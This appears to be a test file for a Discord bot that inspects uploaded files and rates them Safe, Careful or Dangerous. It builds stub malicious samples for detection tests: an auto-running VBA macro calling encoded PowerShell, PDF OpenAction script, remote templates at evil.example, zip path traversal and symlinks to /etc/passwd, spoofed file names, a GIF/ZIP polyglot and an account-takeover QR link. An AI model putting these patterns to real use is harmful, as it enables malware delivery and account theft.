import { expect, test, vi } from 'vitest';
import { startBot } from '../../../bot.ts';
import { bookOf, cfbOf, moduleOf, vbaProject } from '../../../files/cfb.ts';
import * as programs from '../../../files/executables.ts';
import { exif, jpegSegment, withSegments } from '../../../files/exif.ts';
import { gif } from '../../../files/gif.ts';
import { gzip } from '../../../files/gzip.ts';
import { docxOf, paragraphs, pptxOf, rels, xlsxOf } from '../../../files/office.ts';
import { onePage } from '../../../files/pdf.ts';
import { join } from '../../../files/picture-bytes.ts';
import { jpeg, qrCode, webp } from '../../../files/pictures.ts';
import { png } from '../../../files/png.ts';
import { rar5 } from '../../../files/rar.ts';
import { scene } from '../../../files/scenes.ts';
import { sevenZip } from '../../../files/sevenzip.ts';
import { tar } from '../../../files/tar.ts';
import * as texts from '../../../files/text.ts';
import { zip } from '../../../files/zip.ts';
import { type Case, expectCards, expectWithinLimits, upload, WHAT } from './inspected.ts';

vi.setConfig({ testTimeout: 120_000 });

const program = programs.pe({});

test('cards of archives: what is in them, and what that could do', async () => {
  const inner = zip([{ path: 'deep.exe', content: program }]);
  const linked = [
    { path: 'src/main.c', content: 'int main;' },
    { path: 'link', kind: '2', target: '/etc/passwd' },
  ];
  await using bot = await startBot();
  await expectCards(bot, [
    {
      what: 'a zip',
      file: upload('a.zip', zip([{ path: 'notes/a.txt', content: 'hello' }]), 'application/zip'),
      verdict: 'Safe',
      says: [WHAT, 'a ZIP archive', 'Contents', '```', '5 B  notes/a.txt'],
    },
    {
      what: 'a zip with a zip with a program in it',
      file: upload('n.zip', zip([{ path: 'inner.zip', content: inner }])),
      verdict: 'Dangerous',
      says: ['inner.zip', 'programs', 'deep.exe', WHAT, 'a ZIP archive', '```', 'inner.zip'],
    },
    {
      what: 'a locked zip',
      file: upload('e.zip', zip([{ path: 'a.txt', content: 'hello', encrypted: true }])),
      verdict: 'Careful',
      says: ['encrypted files in it (1 of 1)', WHAT, 'Encrypted', 'a.txt  (🔒)'],
    },
    {
      what: 'a zip that writes elsewhere',
      file: upload('t.zip', zip([{ path: '../../etc/passwd', content: 'x' }])),
      verdict: 'Dangerous',
      says: ['../../etc/passwd would be written outside', WHAT, '../../etc/passwd  (⚠ path)'],
    },
    {
      what: 'a name that is turned round',
      file: upload('r.zip', zip([{ path: 'holiday\u202egpj.exe', content: program }])),
      verdict: 'Dangerous',
      says: ['turn the text around', WHAT, 'a ZIP archive', 'holiday'],
    },
    {
      what: 'a tar.gz with a link to elsewhere',
      file: upload('t.tar.gz', gzip(tar(linked))),
      verdict: 'Dangerous',
      says: ['link is a link to /etc/passwd', WHAT, 'GZIP', 't.tar', 'src/main.c'],
    },
    {
      what: 'a 7z',
      file: upload('s.7z', sevenZip([{ path: 'a.txt', content: 'hello' }])),
      verdict: 'Not looked into',
      says: ['stay packed', WHAT, 'a 7z archive', '5 B  a.txt'],
    },
    {
      what: 'a rar',
      file: upload('r.rar', rar5([{ path: 'invoice.pdf.exe', size: 1000 }])),
      verdict: 'Dangerous',
      says: ['programs in it (1): invoice.pdf.exe', 'its name ends twice', WHAT, 'a RAR archive', '1.0 KB  invoice'],
    },
  ]);
});

test('cards of documents: macros, scripts, what is fetched from elsewhere, links, a preview', async () => {
  const macro = 'Sub AutoOpen()\r\nShell "powershell -enc aaaa"\r\nEnd Sub';
  const project = vbaProject(macro);
  const external = (type: string, target: string) => ({ id: 'x1', type, target, external: true });
  const paper = onePage({
    lines: ['Hello, penguins'],
    catalog: '/OpenAction <</S /JavaScript /JS (app.alert(1))>>',
    page: '/Annots [<</Subtype /Link /A <</S /URI /URI (https://example.com/a)>>>>]',
    more: { 9: '<</Title (On penguins)>>' },
    trailer: '/Info 9 0 R',
  });
  const template = rels(external('attachedTemplate', 'https://evil.example/a.dotm'));
  const rows = [
    ['day', 'sold'],
    ['monday', 3],
  ] as const;
  await using bot = await startBot();
  await expectCards(bot, [
    {
      what: 'a PDF',
      file: upload('p.pdf', paper, 'application/pdf'),
      verdict: 'Dangerous',
      says: [
        'a script that runs when it is opened',
        WHAT,
        'Pages** 1',
        'On penguins',
        'example.com/a',
        '```\nHello, pen',
      ],
    },
    {
      what: 'a docx with macros and a link',
      file: upload(
        'd.docx',
        docxOf(paragraphs('Hello'), {
          files: { 'word/vbaProject.bin': project },
          related: [external('hyperlink', 'https://example.com/b')],
        }),
      ),
      verdict: 'Dangerous',
      says: ['start by themselves: AutoOpen', WHAT, 'a Word document', 'On penguins', 'example.com/b', '```\nHello'],
    },
    {
      what: 'a docx with a template from elsewhere',
      file: upload('t.docx', docxOf(paragraphs('Hello'), { files: { 'word/_rels/settings.xml.rels': template } })),
      verdict: 'Dangerous',
      says: ['its template from somewhere else', 'https://evil.example/a.dotm', WHAT, 'a Word document'],
    },
    {
      what: 'an xlsx',
      file: upload('x.xlsx', xlsxOf({ Sales: rows })),
      verdict: 'Safe',
      says: [WHAT, 'an Excel workbook', 'Sales; rows: 2', '```\nday     sold', 'monday  3'],
    },
    {
      what: 'an xlsx with macros and a table from elsewhere',
      file: upload(
        'm.xlsm',
        xlsxOf(
          { Sales: rows },
          {
            files: { 'xl/vbaProject.bin': project },
            related: { Sales: [external('oleObject', 'https://evil.example/b.html')] },
          },
        ),
      ),
      verdict: 'Dangerous',
      says: [
        'from somewhere else: `https://evil.example/b.html`',
        'start by themselves: AutoOpen',
        WHAT,
        'an Excel workbook',
      ],
    },
    {
      what: 'a pptx',
      file: upload(
        'p.pptx',
        pptxOf([{ inside: '<a:t>Hello slides</a:t>', related: [external('hyperlink', 'https://example.com/c')] }]),
      ),
      verdict: 'Safe',
      says: [WHAT, 'a PowerPoint presentation', 'Slides** 1', 'example.com/c', '```\nHello slides'],
    },
    {
      what: 'an older document',
      file: upload(
        'l.doc',
        cfbOf({ WordDocument: 'x', 'Macros/VBA/dir': 'x', 'Macros/VBA/ThisDocument': moduleOf(macro) }),
      ),
      verdict: 'Dangerous',
      says: ['start by themselves: AutoOpen', WHAT, 'an older Office document'],
    },
    {
      what: 'an older workbook',
      file: upload('l.xls', cfbOf({ Workbook: bookOf([{ name: 'Sales' }, { name: 'Hidden', state: 1 }]) })),
      verdict: 'Safe',
      says: [WHAT, 'an older Office document', 'Sales', 'Hidden; hidden'],
    },
  ]);
});

test('cards of pictures: size, place, codes, and the picture itself with words for who cannot see it', async () => {
  const home = { latitude: [52, 31, 12], longitude: [13, 24, 18] };
  const segment = jpegSegment(0xe1, join('Exif\0\0', exif({ make: 'Acme', place: home })));
  const frames = [{ pixels: scene(1) }, { pixels: scene(2) }];
  await using bot = await startBot();
  await expectCards(bot, [
    {
      what: 'a PNG',
      file: upload('a.png', png(scene(3)), 'image/png'),
      verdict: 'Safe',
      says: [WHAT, 'a PNG picture', '320 × 240'],
      alt: /^A PNG picture, 320 by 240/,
    },
    {
      what: 'a JPEG that tells where it was taken',
      file: upload('a.jpg', withSegments(await jpeg(scene(5)), segment), 'image/jpeg'),
      verdict: 'Careful',
      says: ['it tells where it was taken', WHAT, 'a JPEG picture', 'Acme', 'about 52.5°, 13.4°'],
      alt: /^A JPEG picture/,
    },
    {
      what: 'a GIF that moves',
      file: upload('a.gif', gif(frames), 'image/gif'),
      verdict: 'Safe',
      says: [WHAT, 'a GIF picture', 'frames: 2'],
      alt: /^The first of 2 frames of a GIF animation/,
    },
    {
      what: 'a WebP',
      file: upload('a.webp', await webp(scene(6)), 'image/webp'),
      verdict: 'Safe',
      says: [WHAT, 'a WebP picture'],
      alt: /^A WebP picture/,
    },
    {
      what: 'a QR code that takes over accounts',
      file: upload('q.png', png(await qrCode('https://discord.com/ra/kH3v9sGz1')), 'image/png'),
      verdict: 'Dangerous',
      says: ['a QR code that lets a stranger into the Discord account', WHAT, 'QR code', 'discord.com/ra/kH3v9sGz1'],
      alt: /^A PNG picture/,
    },
  ]);
});

test('cards of data: statistics of columns, and mistakes with their line and column', async () => {
  await using bot = await startBot();
  await expectCards(bot, [
    {
      what: 'a CSV',
      file: upload('a.csv', 'name,age\nAda,36\nAlan,41\nGrace,\n', 'text/csv'),
      verdict: 'Safe',
      says: [
        WHAT,
        'a table (CSV)',
        'rows: 3; columns: 2',
        'age: numbers from 36 to 41, mean 38.5',
        'empty: 1',
        '```\nname',
      ],
    },
    {
      what: 'a TSV',
      file: upload('a.tsv', 'name\tage\nAda\t36\nAlan\t41\n', 'text/tab-separated-values'),
      verdict: 'Safe',
      says: [WHAT, 'a table', 'separated by tabs', 'age: numbers from 36 to 41', '```\nname  age'],
    },
    {
      what: 'JSON with a mistake',
      file: upload('a.json', '{\n  "a": 1,\n  "b": [1, 2,, 3]\n}', 'application/json'),
      verdict: 'Safe',
      says: [WHAT, 'JSON', 'line 3, column 14', '>3 |   "b": [1, 2,, 3]'],
    },
    {
      what: 'YAML with a mistake',
      file: upload('a.yaml', 'a: 1\nb:\n  - x\n c: [', 'text/yaml'),
      verdict: 'Safe',
      says: [WHAT, 'YAML', 'line 4, column 2', '>4 |  c: ['],
    },
    {
      what: 'TOML with a mistake',
      file: upload('a.toml', 'a = 1\nb = = 2\n', 'application/toml'),
      verdict: 'Safe',
      says: [WHAT, 'TOML', 'line 2, column 5', '>2 | b = = 2'],
    },
    {
      what: 'JSON by lines with a mistake',
      file: upload('a.ndjson', '{"a":1}\n{"a":2}\n{"a":\n', 'application/x-ndjson'),
      verdict: 'Safe',
      says: [WHAT, 'JSON, one value a line', 'line 3, column 6', '```json\n{'],
    },
    {
      what: 'a log',
      file: upload('a.log', texts.logOf(20_000), 'text/plain'),
      verdict: 'Safe',
      says: [WHAT, 'a log', 'First cause', 'bad state 1', 'errors: 14', 'Errors over time', '> 1 |'],
    },
  ]);
});

test('cards of stack traces: the first cause, and where it was', async () => {
  const traces = [
    ['JVM', texts.JVM, 'java.net.ConnectException: Connection refused', 'Driver.java:1'],
    ['Python', texts.PYTHON, 'ValueError: bad', '/app/main.py:10'],
    ['JavaScript', texts.JAVASCRIPT, 'Error: deep', 'app/'],
    ['Rust', texts.RUST, 'called', 'src/main.rs:5'],
    ['Go', texts.GO, 'index out of range', 'main.go:9'],
    ['.NET', texts.DOTNET, 'System.IO.FileNotFoundException', 'Program.cs:8'],
    ['Linux', texts.KERNEL, 'BUG: kernel NULL pointer dereference', 'line 2'],
    ['systemd', texts.SYSTEMD, 'app.service: Main process exited', 'line 3'],
  ] as const;
  await using bot = await startBot();
  const cases = traces.map(([what, text, cause, place]): Case => {
    const file = upload('trace.txt', text, 'text/plain');
    return { what, file, verdict: 'Safe', says: [WHAT, 'First cause', cause, place, '```\n', '|'] };
  });
  await expectCards(bot, cases);
});

test('cards of what runs, and of what pretends not to', async () => {
  const double = join(programs.gif, zip([{ path: 'a.exe', content: program }]));
  await using bot = await startBot();
  await expectCards(bot, [
    {
      what: 'a program of Windows',
      file: upload('a.exe', program),
      verdict: 'Dangerous',
      says: ['it is a Windows program', WHAT, 'a Windows program', 'x86-64', 'Signature'],
    },
    {
      what: 'a program of Linux',
      file: upload('a', programs.elf()),
      verdict: 'Dangerous',
      says: ['it is a Linux program', WHAT, 'a Linux program', 'x86-64'],
    },
    {
      what: 'a shortcut',
      file: upload('a.lnk', programs.lnk({ words: '/c powershell -enc aaaa' })),
      verdict: 'Dangerous',
      says: ['runs a command', 'cmd.exe /c powershell', WHAT, 'a shortcut'],
    },
    {
      what: 'a script',
      file: upload('a.ps1', 'powershell -enc aGVsbG8gd29ybGQ=\n', 'text/plain'),
      verdict: 'Careful',
      says: ['it is a script', WHAT, 'a script', '```powershell'],
    },
    {
      what: 'two things at once',
      file: upload('a.gif', double, 'image/gif'),
      verdict: 'Dangerous',
      says: ['it is two things at once', 'ZIP', WHAT, 'a GIF picture'],
      alt: /^A GIF picture/,
    },
    {
      what: 'a name with two ends',
      file: upload('invoice.pdf.exe', program),
      verdict: 'Dangerous',
      says: ['its name ends twice', WHAT, 'a Windows program'],
    },
    {
      what: 'a program called a picture',
      file: upload('a.png', program, 'image/png'),
      verdict: 'Dangerous',
      says: ['a Windows program', WHAT, 'a Windows program', 'Declared as** `image/png`'],
    },
  ]);
});

test('four files of which each says as much as it can are four cards that Discord takes', async () => {
  const wide = Array.from({ length: 60 }, (_, at) => `${'column'.repeat(30)}${at}`).join(',');
  const table = `${wide}\n${Array.from({ length: 50 }, (_, row) =>
    Array(60)
      .fill('x'.repeat(90) + row)
      .join(','),
  ).join('\n')}`;
  const paths = Array.from({ length: 400 }, (_, at) => ({
    path: `../${'deep/'.repeat(60)}${at}.pdf.exe`,
    content: program,
  }));
  const urls = Array.from({ length: 200 }, (_, at) => `https://paypa1.example/${'a'.repeat(900)}${at}`).join('\n');
  const segment = jpegSegment(0xe1, join('Exif\0\0', exif({ make: 'M'.repeat(900), model: 'N'.repeat(900) })));
  const name = (ending: string) => `${'_*~`'.repeat(50)}.pdf.${ending}`;
  const files = [
    upload(name('csv'), table, 'text/csv'),
    upload(name('zip'), zip(paths), 'application/zip'),
    upload(name('txt'), urls, 'text/plain'),
    upload(name('jpg'), withSegments(await jpeg(scene(5)), segment), 'image/jpeg'),
  ];
  await using bot = await startBot();
  const message = await bot.discord.message({ as: 'owner', files });
  const reply = await bot.discord.messageMenu('Inspect files', message.id, { as: 'member', settle: 'ack' });
  const { content, message: answer } = await reply.until((seen) => seen.content.includes('What it is'), {
    deadlineMs: 60_000,
  });
  expectWithinLimits(answer?.components, 'four files');
  expect(answer?.components).toHaveLength(4);
  expect(content.match(/\*\*(?:Safe|Careful|Dangerous)\*\*/g)).toHaveLength(4);
  expect(content.match(/\*\*What it is\*\*/g)).toHaveLength(4);
  expect(JSON.stringify(answer?.components)).toContain('inspect.strip');
});
